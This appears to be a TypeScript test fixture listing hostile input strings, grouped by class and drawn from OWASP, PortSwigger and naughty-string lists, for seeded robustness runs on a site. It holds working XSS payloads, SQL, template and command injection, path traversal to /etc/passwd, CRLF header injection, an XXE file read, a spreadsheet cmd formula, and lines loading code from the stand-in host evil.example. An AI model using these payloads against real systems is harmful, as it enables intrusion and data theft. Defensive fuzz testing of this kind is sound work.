import { seededChance } from '../../../stand-ins/services/shared/random';

/**
 * Texts that broke other sites, by the harm they try: from the XSS Filter Evasion Cheat Sheet of OWASP,
 * PortSwigger's XSS cheat sheet and the Big List of Naughty Strings; some were written for a mechanism of
 * this site. Scripts in them call `alert`, which the runs watch.
 */
const texts = {
  script: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<<SCRIPT>alert(1);//\\<</SCRIPT>',
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<BODY ONLOAD=alert(1)>',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/x.html"></OBJECT>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<BASE HREF="javascript:alert(1);//">',
    '<LINK REL="stylesheet" HREF="http://evil.example/xss.css">',
    '</TITLE><SCRIPT>alert(1);</SCRIPT>',
    '</textarea></style></noscript><script>alert(1)</script>',
    '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">X</button></form>',
  ],
  attribute: [
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)' style='position:fixed;inset:0",
    '`onmouseover=alert(1)',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<a onmouseover=alert(document.cookie)>xxs link</a>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
  ],
  address: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'jav\tascript:alert(1);',
    'jav\nascript:alert(1)',
    'java\0script:alert(1)',
    ' \u0001javascript:alert(1)',
    'jav&#x09;ascript:alert(1);',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    'javascript&colon;alert(1)',
    'javascript://%0aalert(1)//https://a.example/a.jpg',
    'vbscript:msgbox("XSS")',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'view-source:javascript:alert(1)',
    'blob:https://evil.example/0',
    '//evil.example/%2f..',
    '/\\evil.example',
    'https:evil.example',
    'https://user:pass@evil.example:80/f/1/10x10/x/a.jpg',
    'http://localhost:4401/f/1/10x10/x/a.jpg#"onload=alert(1)',
    'https://evil.example/f/1/99999999999999999999x1/x/a.jpg',
  ],
  style: [
    '<STYLE>@import"http://evil.example/xss.css";body{display:none!important}</STYLE>',
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    'red;} body{display:none} x{',
    'expression(alert(1))',
    'url("http://evil.example/?c=")',
    '</style><script>alert(1)</script><style>',
  ],
  foreign: [
    '<svg onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">click',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  ],
  mutation: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<x><![CDATA[><img src=x onerror=alert(1)>]]>',
  ],
  template: [
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)} #{7*7} <%= 7*7 %> {% debug %}',
    '$HOME `touch /tmp/hostile` $(touch /tmp/hostile)',
    '%s%n%x %d {0} $& $1 $` \\1',
    "1;DROP TABLE users; ' OR 1=1 --",
  ],
  json: [
    '</script><script>alert(1)</script>',
    '<!--<script>',
    '--><!-- ---> <!--storyblok#{"name":"x"}-->',
    '\\"};alert(1);//',
    'line\u2028separator\u2029paragraph',
    ']]><script>alert(1)</script><![CDATA[',
    '{"__proto__":{"polluted":true}}',
  ],
  prototype: [
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'toString',
    '__proto__.polluted',
    'analytics',
    '___gatsby',
    'heldPresses',
  ],
  control: [
    'null\0byte',
    '\u0001\u0002\u0003\u0004\u0005\u0006\u0007\b\u000e\u000f\u0010\u001b[31mred\u007f\u0085\u009f',
    'high \ud800 low \udfff swapped \udc00\ud800',
    '\ufeffbom \ufffe\uffff \ufff9note\ufffaannotated\ufffb',
    'tab\tvertical\vform\ffeed\rreturn',
  ],
  direction: [
    '\u202etest\u202egpj.exe',
    '\u2066\u2067\u2068unclosed \u200f\u200e\u061c',
    'ثم نفس سقطت وبالتحديد،, جزيرتي باستخدام أن دنو',
    'בְּרֵאשִׁית, בָּרָא אֱלֹהִים 123 <b>',
    'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳',
    'zero\u200bwidth\u200cjoin\u200der\u2060\u00ad',
    '\u{e0041}\u{e0042}tagged',
  ],
  length: [
    'W'.repeat(100_000),
    `${'w'.repeat(400)} ${'-'.repeat(400)}`,
    `x${'\u0301'.repeat(2_000)}`,
    '﷽'.repeat(60),
  ],
  path: [
    '../../../../../../../etc/passwd%00',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2fpage-data/app-data.json',
    'CON', // A device of Windows.
    '/dev/null; touch /tmp/hostile ;',
    '%', // Cannot be decoded.
    '?q=1&x=2#fragment',
  ],
  protocol: [
    'a\r\nSet-Cookie: hostile=1\r\n\r\n<script>alert(1)</script>',
    '/training 301\n/* https://evil.example 302',
    'a%0d%0aLocation:%20https://evil.example',
  ],
  entity: [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '&lt;script&gt;alert(1)&lt;/script&gt; &nbsp &amp;amp; &#0; &#xD800; &unknown;',
  ],
  formula: ['=cmd|" /C calc"!A0', '@SUM(1+1)*cmd', '+1+1', '-2+3'],
  emoji: ['👨‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👩🏽 🇺🇸🇷 ❤️‍🔥 1️⃣', '🥊'.repeat(200)],
  number: ['99999999999999999999999', '1e400', '-0', '0x7fffffff', '2147483648', 'NaN', '１２３'],
  date: ['9999-12-31 23:59', '0000-00-00 00:00', '2026-02-31 12:00', '+275760-09-13T00:00:00.001Z'],
  words: [
    'undefined null true (null) nil None \\N',
    '[link](javascript:alert(1)) ![x](x"onerror=alert(1)) **b** # h\n- [x](//evil.example)',
    'Scunthorpe General Hospital',
  ],
};

export type HostileString = { kind: keyof typeof texts; text: string };

export const hostileStrings: readonly HostileString[] = Object.entries(texts).flatMap(
  ([kind, list]) => list.map((text) => ({ kind: kind as HostileString['kind'], text })),
);

/** Strings of one run: all, or some by a seed, with one of each class first. */
export function chooseStrings(count: number, seed: number): readonly HostileString[] {
  const random = seededChance(seed);
  const shuffled = hostileStrings
    .map((each) => ({ each, order: random() }))
    .sort((one, other) => one.order - other.order)
    .map(({ each }) => each);
  const firsts = shuffled.filter(
    (each, index) => shuffled.findIndex(({ kind }) => kind === each.kind) === index,
  );
  return [...new Set([...firsts, ...shuffled])].slice(0, count);
}
